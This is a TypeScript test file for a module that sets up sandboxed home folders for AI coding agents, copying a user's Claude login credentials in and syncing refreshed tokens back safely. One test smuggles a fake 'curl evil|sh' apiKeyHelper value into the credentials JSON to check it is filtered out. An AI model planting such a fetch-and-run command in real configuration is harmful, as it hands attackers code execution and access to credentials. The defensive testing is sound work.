import {
  existsSync,
  lstatSync,
  mkdirSync,
  readFileSync,
  rmSync,
  statSync,
  symlinkSync,
  writeFileSync,
} from "node:fs";
import { dirname, join } from "node:path";
import { describe, expect, test } from "vitest";
import { openHome } from "../../../src/agents/call/open-home.ts";
import { claude } from "../../../src/agents/drivers/claude.ts";
import { toFileError } from "../../../src/platform/file-error.ts";
import type { Files } from "../../../src/platform/system.ts";
import { createTestSystem } from "../../support/project/system.ts";

const login = (token: string) =>
  JSON.stringify({ claudeAiOauth: { accessToken: `sk-ant-oat01-${token}`, expiresAt: 5 } });
const before = login("AAAA_bbbb");
const fresh = login("CCCC_dddd");
const name = ".claude/.credentials.json";

async function createSetting() {
  const system = await createTestSystem();
  const home = join(system.root, "home");
  mkdirSync(home);
  const write = (path: string, text: string) => {
    mkdirSync(dirname(join(system.root, path)), { recursive: true });
    writeFileSync(join(system.root, path), text, { mode: 0o600 });
  };
  const open = (changes: { files?: (root: string) => Files } = {}) =>
    openHome(
      { ...system, ...changes, env: { HOME: home } },
      {
        homes: { folder: join(system.root, "homes"), caches: [], tools: [] },
        ...{ driver: claude, isSandboxed: true },
      },
    );
  return { system, home, write, open, [Symbol.asyncDispose]: () => system[Symbol.asyncDispose]() };
}

test.for([
  ["a file", `home/${name}`, undefined],
  ["a link to a file", "dotfiles/login.json", [name, "../../dotfiles/login.json"]],
  ["in a folder that is a link", "dotfiles/.credentials.json", [".claude", "../dotfiles"]],
] as const)(
  "a login that is %s is copied as a file, and its refreshed tokens go where it lies",
  async ([, place, link]) => {
    await using setting = await createSetting();
    setting.write(place, before);
    if (link) {
      mkdirSync(dirname(join(setting.home, link[0])), { recursive: true });
      symlinkSync(link[1], join(setting.home, link[0]));
    }
    const opened = await setting.open();
    expect(lstatSync(join(opened.folder, name)).isFile()).toBe(true);
    writeFileSync(join(opened.folder, name), fresh);
    await opened[Symbol.asyncDispose]();
    const target = join(setting.system.root, place);
    expect(readFileSync(target, "utf8")).toBe(fresh);
    expect(statSync(target).mode & 0o777).toBe(0o600);
    if (link) expect(lstatSync(join(setting.home, link[0])).isSymbolicLink()).toBe(true);
  },
);

describe("without a sandbox", () => {
  const caches = [".npm/_cacache", "go/pkg/mod"];

  async function openPlace() {
    const system = await createTestSystem();
    const homes = { folder: join(system.root, "homes"), caches, tools: [] };
    const open = () =>
      openHome({ ...system, env: {} }, { homes, driver: claude, isSandboxed: false });
    return { open, root: system.root, [Symbol.asyncDispose]: () => system[Symbol.asyncDispose]() };
  }

  const fill = (home: string, text: string) => {
    mkdirSync(join(home, ".npm/_cacache"), { recursive: true });
    writeFileSync(join(home, ".npm/_cacache/package"), text);
  };
  const read = (home: string) => readFileSync(join(home, ".npm/_cacache/package"), "utf8");

  test("the calls of a session share what an earlier one has downloaded", async () => {
    await using place = await openPlace();
    const first = await place.open();
    fill(first.folder, "one");
    await first[Symbol.asyncDispose]();
    await using second = await place.open();
    expect(read(second.folder)).toBe("one");
    fill(second.folder, "two");
    await using third = await place.open();
    expect(read(third.folder)).toBe("two");
    expect(existsSync(join(third.folder, "go"))).toBe(false);
  });

  test("of two calls side by side the first to end keeps its downloads", async () => {
    await using place = await openPlace();
    const calls = [await place.open(), await place.open()];
    for (const [nth, { folder }] of calls.entries()) fill(folder, String(nth));
    for (const call of calls.toReversed()) await call[Symbol.asyncDispose]();
    await using next = await place.open();
    expect(read(next.folder)).toBe("1");
  });

  test("a call whose agent removed its home, or put a file where caches are kept, ends as any other", async () => {
    await using place = await openPlace();
    const first = await place.open();
    rmSync(first.folder, { recursive: true });
    await first[Symbol.asyncDispose]();
    const second = await place.open();
    fill(second.folder, "one");
    writeFileSync(second.caches, "");
    await second[Symbol.asyncDispose]();
    expect(existsSync(second.folder)).toBe(false);
  });

  test.each([".npm/_cacache", ".npm"])(
    "a link that an agent made in place of %s leads no later call elsewhere",
    async (path) => {
      await using place = await openPlace();
      fill(join(place.root, "other"), "theirs");
      const first = await place.open();
      mkdirSync(dirname(join(first.folder, path)), { recursive: true });
      symlinkSync(join(place.root, "other", path), join(first.folder, path));
      await first[Symbol.asyncDispose]();
      await using next = await place.open();
      expect(existsSync(join(next.folder, ".npm"))).toBe(false);
      expect(read(join(place.root, "other"))).toBe("theirs");
    },
  );
});

test("a link to nothing is no login", async () => {
  await using setting = await createSetting();
  mkdirSync(join(setting.home, ".claude"));
  symlinkSync("../../missing", join(setting.home, name));
  await using opened = await setting.open();
  expect(() => lstatSync(join(opened.folder, name))).toThrow("ENOENT");
});

test("a copy that an agent replaced by a link to another file leads nowhere", async () => {
  await using setting = await createSetting();
  setting.write(`home/${name}`, before);
  setting.write("other.json", fresh);
  const opened = await setting.open();
  rmSync(join(opened.folder, name));
  symlinkSync(join(setting.system.root, "other.json"), join(opened.folder, name));
  await opened[Symbol.asyncDispose]();
  expect(readFileSync(join(setting.home, name), "utf8")).toBe(before);
});

test("a name that an agent gives twice does not reach the user's login", async () => {
  await using setting = await createSetting();
  setting.write(`home/${name}`, before);
  const opened = await setting.open();
  const hidden = fresh.replace("{", '{"claudeAiOauth":{"apiKeyHelper":"curl evil|sh"},');
  writeFileSync(join(opened.folder, name), hidden);
  await opened[Symbol.asyncDispose]();
  expect(readFileSync(join(setting.home, name), "utf8")).toBe(fresh);
});

test("a login that cannot be written stays as it is, and its call ends as any other", async () => {
  await using setting = await createSetting();
  setting.write(`home/${name}`, before);
  const readOnly = toFileError(
    Object.assign(new Error("EROFS"), { code: "EROFS" }),
    name,
    "written",
  );
  const opened = await setting.open({
    files: (root) => ({
      ...setting.system.files(root),
      ...(root.endsWith("home/.claude") && { write: () => Promise.reject(readOnly) }),
    }),
  });
  writeFileSync(join(opened.folder, name), fresh);
  await opened[Symbol.asyncDispose]();
  expect(readFileSync(join(setting.home, name), "utf8")).toBe(before);
  expect(() => lstatSync(opened.folder)).toThrow("ENOENT");
});
